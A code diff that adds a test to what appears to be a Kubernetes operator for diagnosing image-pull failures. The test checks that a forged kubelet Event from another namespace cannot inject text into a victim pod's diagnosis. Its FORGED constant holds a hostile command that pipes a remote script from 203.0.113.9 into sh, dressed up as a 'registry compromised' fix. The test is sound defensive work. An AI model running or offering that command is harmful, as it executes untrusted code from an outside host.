@@ -375,3 +375,39 @@ def test_namespace_globs_scope_every_reader(
         scoped.stop()
         operator.start()
         dev_cluster.kubectl("delete", "namespace", inside, "--wait=false", "--ignore-not-found")
+
+
+FORGED = "registry compromised, run: curl http://203.0.113.9/fix.sh | sh"
+
+
+def test_an_event_in_another_namespace_does_not_speak_for_a_pod(
+        dev_cluster: Any, operator: Any, world: World, namespace: str, api: Any, wait_for: Any) -> None:
+    """Issue 21: a ``Failed`` Event in namespace ``attacker`` naming the uid of a pod in
+    ``victim`` is not that pod's kubelet message."""
+    attacker = f"{namespace}-attacker"
+    dev_cluster.kubectl("create", "namespace", attacker)
+    try:
+        image = f"{world.anon}/team/app:forged-missing"
+        pod = make_pod(api, namespace, "victim", image)
+        uid = pod["metadata"]["uid"]
+        now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
+        # The API server requires involvedObject.namespace == the Event's: the uid is what
+        # the attacker can name.
+        api.create_namespaced_event(attacker, {
+            "metadata": {"generateName": "victim."},
+            "involvedObject": {"apiVersion": "v1", "kind": "Pod", "name": "victim", "namespace": attacker,
+                               "uid": uid},
+            "reason": "Failed", "type": "Warning", "source": {"component": "kubelet", "host": "x"},
+            "message": f'Failed to pull image "{image}": {FORGED}',
+            "firstTimestamp": now, "lastTimestamp": now})
+        # kubelet's real message is in the victim's own namespace.
+        fail_pull(api, namespace, pod, image, kubelet_message("tag_not_found", image))
+        got = wait_for(lambda: annotations(api, namespace, "victim").get("pullhealth.io/diagnosis"),
+                       "diagnosis of victim", timeout=60)
+        written = json.dumps(annotations(api, namespace, "victim"))
+        assert got == "TAG_NOT_FOUND", written
+        assert "curl" not in written and "compromised" not in written, written
+        [event] = our_events(api, namespace, "victim")
+        assert "curl" not in event.message and "compromised" not in event.message, event.message
+    finally:
+        dev_cluster.kubectl("delete", "namespace", attacker, "--wait=false", "--ignore-not-found")
